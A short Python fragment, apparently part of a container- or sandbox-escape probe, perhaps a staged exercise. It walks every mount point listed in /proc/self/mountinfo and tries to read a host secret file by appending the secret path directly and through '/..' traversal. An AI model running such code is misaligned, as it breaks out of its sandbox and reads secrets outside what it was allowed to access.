# Looks for the host's file below everything that is mounted.
for line in open("/proc/self/mountinfo"):
    place = line.split()[4]
    attempt(lambda: content(place.rstrip("/") + stage["secret"]), lambda: content(place + "/.." + stage["secret"]))
